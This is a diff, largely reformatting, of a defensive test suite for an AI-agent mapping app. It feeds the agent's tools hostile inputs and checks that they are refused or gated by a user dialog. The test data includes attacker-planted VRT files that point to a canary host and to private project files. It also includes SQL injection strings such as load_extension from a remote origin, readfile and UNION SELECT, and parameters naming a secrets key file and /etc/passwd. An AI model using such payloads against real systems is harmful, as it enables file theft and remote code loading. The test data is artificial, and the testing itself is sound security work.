@@ -53,7 +53,14 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
   let decision: 'approve' | 'reject' = 'reject';
 
   before(async () => {
-    canary = await startCanaryServer(Buffer.from(JSON.stringify({ type: 'FeatureCollection', features: [{ type: 'Feature', properties: { name: 'canary' }, geometry: { type: 'Point', coordinates: [5, 50] } }] })));
+    canary = await startCanaryServer(
+      Buffer.from(
+        JSON.stringify({
+          type: 'FeatureCollection',
+          features: [{ type: 'Feature', properties: { name: 'canary' }, geometry: { type: 'Point', coordinates: [5, 50] } }],
+        }),
+      ),
+    );
 
     model = await startScriptedModelServer();
     const root = mkdtempSync(join(tmpdir(), 'mapwright-hostile-'));
@@ -63,14 +70,34 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
     mkdirSync(data);
     copyFileSync(TOWNS, join(data, 'countries.geojson'));
     // Files an attacker left in the person's data: each points somewhere it should not.
-    writeFileSync(join(data, 'remote.vrt'), `<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/${canary.origin}/vrt.geojson</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>`);
-    writeFileSync(join(data, 'wms.xml'), `<GDAL_WMS><Service name="TMS"><ServerUrl>${canary.origin}/tiles/\${z}/\${x}/\${y}.png</ServerUrl></Service><DataWindow><UpperLeftX>-20037508.34</UpperLeftX><UpperLeftY>20037508.34</UpperLeftY><LowerRightX>20037508.34</LowerRightX><LowerRightY>-20037508.34</LowerRightY><TileLevel>18</TileLevel><TileCountX>1</TileCountX><TileCountY>1</TileCountY><YOrigin>top</YOrigin></DataWindow><Projection>EPSG:3857</Projection><BlockSizeX>256</BlockSizeX><BlockSizeY>256</BlockSizeY><BandsCount>3</BandsCount></GDAL_WMS>`);
-    writeFileSync(join(data, 'private.vrt'), `<OGRVRTDataSource><OGRVRTLayer name="m"><SrcDataSource>${join(home, 'projects', 'untitled.mapwright')}</SrcDataSource><SrcLayer>messages</SrcLayer></OGRVRTLayer></OGRVRTDataSource>`);
-    writeFileSync(join(data, 'relative.vrt'), `<OGRVRTDataSource><OGRVRTLayer name="m"><SrcDataSource relativeToVRT="1">../home/projects/untitled.mapwright</SrcDataSource><SrcLayer>messages</SrcLayer></OGRVRTLayer></OGRVRTDataSource>`);
-    writeFileSync(join(data, 'sqlvrt.vrt'), `<OGRVRTDataSource><OGRVRTLayer name="g"><SrcDataSource>${join(data, 'countries.geojson')}</SrcDataSource><SrcSQL dialect="sqlite">SELECT ogr_geocode('Paris') AS g FROM countries</SrcSQL></OGRVRTLayer></OGRVRTDataSource>`);
+    writeFileSync(
+      join(data, 'remote.vrt'),
+      `<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/${canary.origin}/vrt.geojson</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>`,
+    );
+    writeFileSync(
+      join(data, 'wms.xml'),
+      `<GDAL_WMS><Service name="TMS"><ServerUrl>${canary.origin}/tiles/\${z}/\${x}/\${y}.png</ServerUrl></Service><DataWindow><UpperLeftX>-20037508.34</UpperLeftX><UpperLeftY>20037508.34</UpperLeftY><LowerRightX>20037508.34</LowerRightX><LowerRightY>-20037508.34</LowerRightY><TileLevel>18</TileLevel><TileCountX>1</TileCountX><TileCountY>1</TileCountY><YOrigin>top</YOrigin></DataWindow><Projection>EPSG:3857</Projection><BlockSizeX>256</BlockSizeX><BlockSizeY>256</BlockSizeY><BandsCount>3</BandsCount></GDAL_WMS>`,
+    );
+    writeFileSync(
+      join(data, 'private.vrt'),
+      `<OGRVRTDataSource><OGRVRTLayer name="m"><SrcDataSource>${join(home, 'projects', 'untitled.mapwright')}</SrcDataSource><SrcLayer>messages</SrcLayer></OGRVRTLayer></OGRVRTDataSource>`,
+    );
+    writeFileSync(
+      join(data, 'relative.vrt'),
+      `<OGRVRTDataSource><OGRVRTLayer name="m"><SrcDataSource relativeToVRT="1">../home/projects/untitled.mapwright</SrcDataSource><SrcLayer>messages</SrcLayer></OGRVRTLayer></OGRVRTDataSource>`,
+    );
+    writeFileSync(
+      join(data, 'sqlvrt.vrt'),
+      `<OGRVRTDataSource><OGRVRTLayer name="g"><SrcDataSource>${join(data, 'countries.geojson')}</SrcDataSource><SrcSQL dialect="sqlite">SELECT ogr_geocode('Paris') AS g FROM countries</SrcSQL></OGRVRTLayer></OGRVRTDataSource>`,
+    );
     symlinkSync(home, join(data, 'innocent-folder'));
 
-    host = await startWebHost({ MAPWRIGHT_HOME: home, MAPWRIGHT_MODEL_URL: model.url, MAPWRIGHT_MODEL: 'scripted', MAPWRIGHT_ALLOW_ORIGINS: canary.origin });
+    host = await startWebHost({
+      MAPWRIGHT_HOME: home,
+      MAPWRIGHT_MODEL_URL: model.url,
+      MAPWRIGHT_MODEL: 'scripted',
+      MAPWRIGHT_ALLOW_ORIGINS: canary.origin,
+    });
     bridge = await BridgeSocket.connect(host.url);
     bridge.onEvent = (e: BridgeEvent) => {
       if (e.name !== 'approval/requested') return;
@@ -102,7 +129,9 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
   async function lastToolResult(): Promise<ToolResult> {
     const deadline = Date.now() + 60_000;
     for (;;) {
-      const state = await bridge.call<{ run: { status: string }; messages: { role: string; tool?: { result: ToolResult | null } }[] }>('project/get');
+      const state = await bridge.call<{ run: { status: string }; messages: { role: string; tool?: { result: ToolResult | null } }[] }>(
+        'project/get',
+      );
       const last = [...state.messages].reverse().find((m) => m.role === 'tool');
       if (state.run.status === 'idle' && last?.tool?.result) return last.tool.result;
       if (Date.now() > deadline) throw new Error('the run did not finish');
@@ -133,7 +162,12 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
     const describePath = (path: string) => ({ name: 'inspect_describe_path', arguments: { path } });
     const sql = (text: string) => ({ name: 'inspect_sql', arguments: { sql: text } });
     const where = (w: string) => ({ name: 'inspect_query_features', arguments: { layer: 'countries', where: w } });
-    const refused = (name: string, call: Hostile['call'], codes = ['invalid_params', 'not_allowed']): Hostile => ({ name, call, expect: 'refused', codes });
+    const refused = (name: string, call: Hostile['call'], codes = ['invalid_params', 'not_allowed']): Hostile => ({
+      name,
+      call,
+      expect: 'refused',
+      codes,
+    });
     const asked = (name: string, call: Hostile['call']): Hostile => ({ name, call, expect: 'asked' });
     return [
       // Read and write tools reaching the network: a dialog every time, never covered by a grant.
@@ -176,7 +210,10 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
       // The SQL surface: project layers as tables, allow-listed functions only.
       refused('datasource as table (URL)', sql(`SELECT * FROM "/vsicurl/${C}/x.geojson"."x"`)),
       refused('datasource as table (project file)', sql(`SELECT * FROM "${project}"."messages"`)),
-      refused('datasource as table in a join', sql(`SELECT * FROM countries JOIN "${join(home, 'mapwright.sqlite')}"."endpoint_capabilities" ON 1`)),
+      refused(
+        'datasource as table in a join',
+        sql(`SELECT * FROM countries JOIN "${join(home, 'mapwright.sqlite')}"."endpoint_capabilities" ON 1`),
+      ),
       refused('string-literal table', sql(`SELECT * FROM '${project}'`)),
       refused('datasource in a sub-query', sql(`SELECT (SELECT count(*) FROM "/vsicurl/${C}/y.geojson"."y") FROM countries`)),
       refused('ogr_geocode', sql(`SELECT ogr_geocode('Paris')`)),
@@ -188,13 +225,30 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
       refused('PRAGMA', sql('PRAGMA table_info(countries)')),
       refused('two statements', sql('SELECT 1; SELECT 2')),
       refused('upper-case spaced call', sql(`SELECT OGR_GEOCODE /* hidden */ ('Paris') FROM countries`)),
-      refused('save_query with a datasource table', { name: 'inspect_save_query', arguments: { sql: `SELECT * FROM "${project}"."messages"`, name: 'stolen' } }),
+      refused('save_query with a datasource table', {
+        name: 'inspect_save_query',
+        arguments: { sql: `SELECT * FROM "${project}"."messages"`, name: 'stolen' },
+      }),
       refused('where clause geocodes', where(`ogr_geocode('Paris') IS NOT NULL`)),
       refused('where clause loads layers', where(`ogr_datasource_load_layers('${project}') = 1`)),
-      refused('processing expression geocodes', { name: 'processing_run', arguments: { algorithm: 'select_by_attribute', params: { input: 'countries', where: "ogr_geocode('x') IS NULL" } } }),
+      refused('processing expression geocodes', {
+        name: 'processing_run',
+        arguments: { algorithm: 'select_by_attribute', params: { input: 'countries', where: "ogr_geocode('x') IS NULL" } },
+      }),
       // CRS text GDAL would read as a file or fetch as a URL.
-      refused('CRS as a URL', { name: 'inspect_query_features', arguments: { layer: 'countries', bbox: [0, 0, 1, 1], filter_crs: `${C}/crs.wkt` } }, ['invalid_params', 'not_allowed', 'handler_error']),
-      refused('CRS as the key file', { name: 'inspect_query_features', arguments: { layer: 'countries', bbox: [0, 0, 1, 1], filter_crs: join(home, 'secrets', 'model-keys.json') } }, ['invalid_params', 'not_allowed', 'handler_error']),
+      refused(
+        'CRS as a URL',
+        { name: 'inspect_query_features', arguments: { layer: 'countries', bbox: [0, 0, 1, 1], filter_crs: `${C}/crs.wkt` } },
+        ['invalid_params', 'not_allowed', 'handler_error'],
+      ),
+      refused(
+        'CRS as the key file',
+        {
+          name: 'inspect_query_features',
+          arguments: { layer: 'countries', bbox: [0, 0, 1, 1], filter_crs: join(home, 'secrets', 'model-keys.json') },
+        },
+        ['invalid_params', 'not_allowed', 'handler_error'],
+      ),
     ];
   };
 
@@ -202,7 +256,10 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
     // A session grant for layers_load and Auto mode: neither may cover a network call.
     decision = 'approve';
     const granted = approvals.length;
-    model.script([{ toolCalls: [{ name: 'layers_load', arguments: { path: join(data, 'countries.geojson'), name: 'countries' } }] }, { text: 'loaded' }]);
+    model.script([
+      { toolCalls: [{ name: 'layers_load', arguments: { path: join(data, 'countries.geojson'), name: 'countries' } }] },
+      { text: 'loaded' },
+    ]);
     bridge.onEvent = (e: BridgeEvent) => {
       if (e.name !== 'approval/requested') return;
       const request = e.payload as Approval;
@@ -229,11 +286,13 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
       if (h.expect === 'asked') {
         if (dialog.length !== 1) failures.push(`${h.name}: expected a dialog, got ${dialog.length}`);
         else if (!dialog[0]!.network?.length) failures.push(`${h.name}: the dialog does not name the network origin`);
-        if (result.ok || result.error?.code !== 'rejected_by_user') failures.push(`${h.name}: expected rejected_by_user, got ${JSON.stringify(result).slice(0, 200)}`);
+        if (result.ok || result.error?.code !== 'rejected_by_user')
+          failures.push(`${h.name}: expected rejected_by_user, got ${JSON.stringify(result).slice(0, 200)}`);
       } else {
         if (dialog.length) failures.push(`${h.name}: a dialog was shown for a call that should be refused`);
         if (result.ok) failures.push(`${h.name}: it ran: ${JSON.stringify(result.data).slice(0, 200)}`);
-        else if (!h.codes!.includes(result.error!.code) || !result.error!.message.trim()) failures.push(`${h.name}: code ${result.error!.code} (${result.error!.message.slice(0, 160)})`);
+        else if (!h.codes!.includes(result.error!.code) || !result.error!.message.trim())
+          failures.push(`${h.name}: code ${result.error!.code} (${result.error!.message.slice(0, 160)})`);
       }
       if (JSON.stringify(result).includes(marker)) failures.push(`${h.name}: the result carries the project's own text`);
       if (canary.connections() !== hitsBefore) failures.push(`${h.name}: the canary was reached (${canary.hits.join(', ')})`);
@@ -247,7 +306,10 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
     assert.equal((await trigger('processing.run', { algorithm: 'buffer', params: {} })).error?.code, 'not_allowed');
     assert.equal((await trigger('layers.load', { path: join(home, 'mapwright.sqlite') })).error?.code, 'not_allowed');
     const layers = await bridge.call<{ layers: { id: string }[] }>('project/get');
-    assert.equal((await trigger('layers.set_opacity', { layer: layers.layers[0]!.id, opacity: 0.5, path: '/etc/passwd' })).error?.code, 'invalid_params');
+    assert.equal(
+      (await trigger('layers.set_opacity', { layer: layers.layers[0]!.id, opacity: 0.5, path: '/etc/passwd' })).error?.code,
+      'invalid_params',
+    );
     const asked = approvals.length;
     const fromGui = await trigger('layers.load', { path: `/vsicurl/${canary.origin}/gui.geojson` });
     assert.equal(fromGui.error?.code, 'rejected_by_user');
@@ -258,7 +320,12 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
     // The attribute table's methods: a layer id and an expression the allow-list checks, nothing else.
     const layerId = layers.layers[0]!.id;
     const rows = (params: Record<string, unknown>) => bridge.call('layers/rows', { layerId, offset: 0, limit: 5, ...params });
-    for (const where of [`load_extension('${canary.origin}/x.so')`, 'fid IN (SELECT rowid FROM messages)', `readfile('${projectFile()}') IS NOT NULL`, '1) UNION SELECT * FROM sqlite_master --']) {
+    for (const where of [
+      `load_extension('${canary.origin}/x.so')`,
+      'fid IN (SELECT rowid FROM messages)',
+      `readfile('${projectFile()}') IS NOT NULL`,
+      '1) UNION SELECT * FROM sqlite_master --',
+    ]) {
       await assert.rejects(rows({ where }), /not allowed|Invalid filter|sub-quer|statement/i, where);
     }
     await assert.rejects(rows({ source: join(home, 'mapwright.sqlite') }), /Invalid parameters/, 'no path rides along');
@@ -268,13 +335,20 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
     // No file appeared or changed outside the outputs folder; no geocoding cache anywhere.
     assert.deepEqual([...snapshot(home, skipOwn).entries()], [...before.home.entries()], 'the data folder is unchanged');
     assert.deepEqual([...snapshot(data, () => false).entries()], [...before.data.entries()], 'the person’s data folder is unchanged');
-    assert.deepEqual([...readdirSync(repoRoot)].filter((f) => !before.repo.has(f)), [], 'nothing new in the checkout (the worker runs in a private folder)');
+    assert.deepEqual(
+      [...readdirSync(repoRoot)].filter((f) => !before.repo.has(f)),
+      [],
+      'nothing new in the checkout (the worker runs in a private folder)',
+    );
 
     // The positive control: approved, the same kind of call does reach the canary — through the gate.
     decision = 'approve';
     const ok = await play({ name: 'layers_load', arguments: { path: `/vsicurl/${canary.origin}/approved.geojson`, name: 'approved' } });
     assert.equal(ok.ok, true, JSON.stringify(ok));
-    assert.ok(canary.hits.some((h) => h.includes('/approved.geojson')), 'the approved call reached its origin');
+    assert.ok(
+      canary.hits.some((h) => h.includes('/approved.geojson')),
+      'the approved call reached its origin',
+    );
     const reached = canary.hits.length;
     decision = 'reject';
     // After the call, the origin is closed again: the local VRT naming it asks, and is rejected.
@@ -296,7 +370,10 @@ describe('hostile corpus: one egress gate, reads that only read', { skip: !haveF
     try {
       bridge.onEvent = () => {};
       const { page, app } = await openAppIn(browser, host.url);
-      model.script([{ toolCalls: [{ name: 'layers_load', arguments: { path: `/vsicurl/${canary.origin}/dialog.geojson` } }] }, { text: 'ok' }]);
+      model.script([
+        { toolCalls: [{ name: 'layers_load', arguments: { path: `/vsicurl/${canary.origin}/dialog.geojson` } }] },
+        { text: 'ok' },
+      ]);
       await app.askAgent('load the remote layer');
       const dialog = await app.waitForApproval();
       const network = await page.getByTestId('approval-network').innerText();
